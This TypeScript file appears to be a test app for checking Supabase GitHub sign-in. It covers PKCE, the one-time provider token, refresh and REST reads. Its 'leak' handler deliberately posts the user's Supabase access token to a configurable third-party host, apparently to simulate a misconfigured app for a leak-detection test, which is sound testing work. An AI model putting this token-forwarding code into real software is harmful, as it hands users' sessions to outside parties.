// The Supabase test app (bundled with @supabase/auth-js 2.119 by esbuild): sign in with GitHub through the project
// (PKCE), use the GitHub token Supabase hands over once, refresh, read a table over REST with the session's token. The
// misconfigured app also posts the user's Supabase access token to its analytics host on another site.
// How supabase-js builds its auth client and REST calls: packages/core/supabase-js/src/SupabaseClient.ts and
// src/lib/fetch.ts (`apikey` header; `Authorization: Bearer <session access token>`).
import { AuthClient } from '@supabase/auth-js';
import { call, onClick, readConfig, setStatus } from './page.js';

const config = readConfig<{ project: string; anonKey: string; leakTo: string | null }>();
const ref = new URL(config.project).hostname.split('.')[0];

// supabase-js's defaults (a storage key per project), PKCE, and no refresh timer: the test refreshes when it asks.
const auth = new AuthClient({
  url: `${config.project}/auth/v1`,
  headers: { apikey: config.anonKey },
  storageKey: `sb-${ref}-auth-token`,
  flowType: 'pkce',
  detectSessionInUrl: true,
  persistSession: true,
  autoRefreshToken: false,
});

/** The GitHub token of this sign-in: Supabase hands it to the browser once, in the session right after sign-in. */
let providerToken: string | null = null;

async function accessToken(): Promise<string> {
  const { data, error } = await auth.getSession();
  if (error || !data.session) throw new Error(error?.message ?? 'no session');
  return data.session.access_token;
}

onClick('signin', async () => {
  setStatus('signing-in');
  const { error } = await auth.signInWithOAuth({ provider: 'github', options: { redirectTo: `${location.origin}/` } });
  if (error) throw error;
});

onClick('github', async () => {
  if (!providerToken) throw new Error('no provider token');
  await call('https://api.github.com/user', {
    headers: { Authorization: `Bearer ${providerToken}`, Accept: 'application/vnd.github+json' },
  });
  setStatus('github-ok');
});

onClick('refresh', async () => {
  setStatus('refreshing');
  const { error } = await auth.refreshSession();
  if (error) throw error;
  setStatus('refreshed');
});

async function readTodos(): Promise<void> {
  const token = await accessToken();
  const rows = (await (
    await call(`${config.project}/rest/v1/todos?select=*`, { headers: { apikey: config.anonKey, Authorization: `Bearer ${token}` } })
  ).json()) as unknown[];
  setStatus(`rest-ok ${rows.length}`);
}

onClick('rest', readTodos);

// A refresh and, at once, a REST call with the new token (as an app whose session just expired does).
onClick('refresh-rest', async () => {
  setStatus('refreshing');
  const { error } = await auth.refreshSession();
  if (error) throw error;
  await readTodos();
});

onClick('leak', async () => {
  if (!config.leakTo) throw new Error('this app sends its token nowhere else');
  const token = await accessToken();
  await call(config.leakTo, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ event: 'todos_viewed' }),
  });
  setStatus('leaked');
});

// The client's initialize() (started by the constructor) exchanges `?code=` for a session when it is a PKCE callback;
// getSession waits for it. The session keeps the provider's tokens until the next refresh replaces it.
auth
  .getSession()
  .then(({ data, error }) => {
    if (error) return setStatus(`error: ${error.message}`);
    providerToken = data.session?.provider_token ?? null;
    setStatus(data.session ? (providerToken ? 'signed-in' : 'signed-in without provider token') : 'ready');
  })
  .catch((error: unknown) => setStatus(`error: ${String(error)}`));
